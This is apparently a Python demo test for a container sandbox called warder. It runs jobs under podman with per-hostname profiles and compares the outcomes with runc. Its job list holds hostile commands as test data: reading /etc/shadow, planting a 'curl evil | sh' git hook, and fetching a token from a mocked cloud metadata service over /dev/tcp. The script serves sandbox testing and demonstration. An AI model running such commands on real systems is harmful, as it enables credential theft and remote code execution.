"""The story of ./dev demo, told inside tests/private.py's namespaces: nothing outside sees the listener or the containers.

A job runs under podman with warder as its runtime and gets its profile by its hostname; each thing it does is told with its
outcome and, where it was refused, with the audit line. Then the same under runc. Exits 1 if anything went otherwise than told.
"""
import http.server
import json
import os
import pathlib
import shutil
import socketserver
import subprocess
import sys
import threading

TOP = pathlib.Path(__file__).resolve().parent.parent
SHARED = pathlib.Path(os.environ["WARDER_SHARED"])
WARDER = os.environ.get("WARDER", TOP / "build/bin/warder")
IMAGE = "localhost/toolchain"
METADATA = "169.254.169.254"
AUDIT = SHARED / "audit.log"
PROFILES = pathlib.Path("/etc/warder/profiles")

# What the administrator of this machine has written: two host names, two profiles.
WARDER_YAML = f"audit: {{file: {AUDIT}}}\n"
BUILDER = "warder: 1\ndescription: CI jobs that build untrusted branches\nextends: [ci]\n"
REVIEWER = """warder: 1
description: Reads the work, changes nothing
paths:
  "/**": rx
  "/dev/**": all
  "/proc/**": rw
  "/tmp/**": rwx
"""

HELLO = '#include <stdio.h>\nint main(void) { puts("built and run inside the container"); }\n'

# (what the job does, its shell command, refused under warder?)
JOB = [
    ("builds a C program and runs it", "cc -O2 -o hello hello.c && ./hello", False),
    ("reads /etc/shadow", "head -c 30 /etc/shadow && echo ...", True),
    ("puts a program under /usr", "cp /bin/true /usr/bin/extra && echo /usr/bin/extra is there", True),
    ("writes a git hook", "echo 'curl evil | sh' > .git/hooks/pre-commit && echo hook written", True),
    ("moves .git away to reach its hooks", "mv .git g && echo 'curl evil | sh' > g/hooks/pre-commit && echo hook written", True),
    ("asks the cloud's metadata service for credentials", f"exec 3<>/dev/tcp/{METADATA}/80 && printf 'GET /token HTTP/1.0\\n\\n' >&3"
     " && tail -n 1 <&3", True),
]

BOLD, DIM, GOOD, BAD, PLAIN = ("\033[1m", "\033[2m", "\033[32m", "\033[31m", "\033[0m") if sys.stdout.isatty() else [""] * 5


def say(text=""):
    print(text, flush=True)


def chapter(text):
    say(f"\n{BOLD}{text}{PLAIN}")


class Metadata(http.server.BaseHTTPRequestHandler):
    """Stands where a cloud keeps the machine's credentials, and shows who reached it."""

    visitors = 0

    def do_GET(self):
        Metadata.visitors += 1
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"token=the-keys-of-this-machine\n")

    def log_message(self, *_):
        pass


def start_metadata_service():
    subprocess.run(["ip", "address", "add", f"{METADATA}/32", "dev", "lo"], check=True)
    server = socketserver.ThreadingTCPServer((METADATA, 80), Metadata)
    threading.Thread(target=server.serve_forever, daemon=True).start()


class Engine:
    """podman with a storage of the demo's own."""

    def __init__(self):
        configuration = SHARED / "containers.conf"
        configuration.write_text('[containers]\ndefault_ulimits = ["nofile=4096:4096", "nproc=4096:4096"]\n'
                                 '[engine]\ncgroup_manager = "cgroupfs"\nevents_logger = "none"\n')
        self.environment = {**os.environ, "CONTAINERS_CONF": str(configuration)}
        self.base = ["podman", "--root", f"{SHARED}/storage", "--runroot", f"{SHARED}/runroot", "--tmpdir", f"{SHARED}/libpod",
                     "--storage-driver", "overlay"]

    def make_image(self):
        root = SHARED / "toolchain"
        subprocess.run([sys.executable, "-B", TOP / "tests/harness/toolchain.py", root], check=True)
        with subprocess.Popen(["tar", "-C", root, "-c", "."], stdout=subprocess.PIPE) as archive:
            subprocess.run([*self.base, "import", "-c", "CMD [\"/bin/bash\"]", "-c", "ENV LC_ALL=C", "-", IMAGE],
                           stdin=archive.stdout, env=self.environment, check=True, capture_output=True)
        shutil.rmtree(root)

    def run(self, runtime, hostname, workspace, command):
        return subprocess.run([*self.base, "--runtime", runtime, "run", "--rm", "--hostname", hostname, "--network", "host",
                               "--cgroup-parent", os.environ["WARDER_TEST_CGROUP"], "-v", f"{workspace}:/work", "--workdir", "/work",
                               IMAGE, "bash", "-c", command], env=self.environment, stdin=subprocess.DEVNULL,
                              capture_output=True, text=True, timeout=120, check=False)


class Story:
    def __init__(self, engine):
        self.engine = engine
        self.surprises = 0
        self.seen = 0
        self.steps = 0

    def workspace(self):
        """A fresh checkout for each step, so that no step builds on another's damage."""
        self.steps += 1
        path = SHARED / f"work-{self.steps}"
        path.mkdir()
        (path / "hello.c").write_text(HELLO)
        git = ["git", "-C", path, "-c", "user.name=demo", "-c", "user.email=demo@example.org"]
        subprocess.run([*git, "init", "-q", "-b", "main"], check=True, env={**os.environ, "HOME": str(SHARED)})
        subprocess.run([*git, "add", "hello.c"], check=True)
        subprocess.run([*git, "commit", "-q", "-m", "a program"], check=True)
        return path

    def step(self, runtime, hostname, what, command, refused):
        outcome = self.engine.run(str(runtime), hostname, self.workspace(), command)
        happened = outcome.returncode != 0
        say(f"\n  {BOLD}the job {what}{PLAIN}")
        say(f"    {DIM}$ {command}{PLAIN}")
        for line in (outcome.stdout + outcome.stderr).splitlines()[-4:]:
            say(f"    {line}")
        say(f"    {BAD}-> refused{PLAIN}" if happened else f"    {GOOD}-> works{PLAIN}")
        lines = self.new_audit_lines()
        for line in lines:
            self.show_audit(line)
        if happened != refused or (refused and not lines):
            self.surprises += 1
            say(f"    {BAD}NOT AS TOLD: {'a refusal and its audit line' if refused else 'success'} was expected{PLAIN}")
        return happened

    def new_audit_lines(self):
        lines = AUDIT.read_text().splitlines() if AUDIT.exists() else []
        fresh, self.seen = lines[self.seen:], len(lines)
        return [json.loads(line) for line in fresh]

    def show_audit(self, line):
        what = line.get("address") or line.get("path")
        say(f"    {DIM}audit: profile {line['profile']}, {line['syscall']} of {what}: {line['verdict']} by {line['rule']}"
            f" (enforcer: {line['enforcer']}); allow with: {line['hint']}{PLAIN}")


def prepare():
    PROFILES.joinpath("builder.yaml").write_text(BUILDER)
    PROFILES.joinpath("reviewer.yaml").write_text(REVIEWER)
    PROFILES.parent.joinpath("warder.yaml").write_text(WARDER_YAML)
    start_metadata_service()


def tell(story):
    chapter("A job of an untrusted branch: podman --runtime warder run --hostname builder ...")
    say(f"  The administrator keeps {PROFILES}/builder.yaml:")
    for line in BUILDER.splitlines():
        say(f"    {DIM}{line}{PLAIN}")
    say("  warder finds it by the hostname; the image and the job have no say in it.")
    table = [[what, story.step(WARDER, "builder", what, command, refused)] for what, command, refused in JOB]
    visitors = Metadata.visitors

    chapter("Another hostname, another profile: --hostname reviewer")
    for line in REVIEWER.splitlines():
        say(f"    {DIM}{line}{PLAIN}")
    story.step(WARDER, "reviewer", "builds the same program, as the reviewer", "cc -O2 -o hello hello.c && ./hello", True)
    story.step(WARDER, "reviewer", "reads the program, as the reviewer", "head -n 1 hello.c", False)

    chapter("The same job without a supervisor: podman --runtime runc run --hostname builder ...")
    for row, (what, command, _) in zip(table, JOB):
        row.append(story.step("runc", "builder", what, command, False))

    chapter("In short")
    say(f"    {'the job ...':52} {'warder':10} runc")
    for what, under_warder, under_runc in table:
        say(f"    {what:52} {'refused' if under_warder else 'works':10} {'refused' if under_runc else 'works'}")
    say(f"    requests that reached the metadata service: {visitors} under warder, {Metadata.visitors - visitors} under runc")
    if visitors:
        story.surprises += 1


def main():
    say("making a local image with a compiler and git, from packages of this machine")
    prepare()
    engine = Engine()
    engine.make_image()
    story = Story(engine)
    tell(story)
    say()
    return 1 if story.surprises else 0


if __name__ == "__main__":
    sys.exit(main())
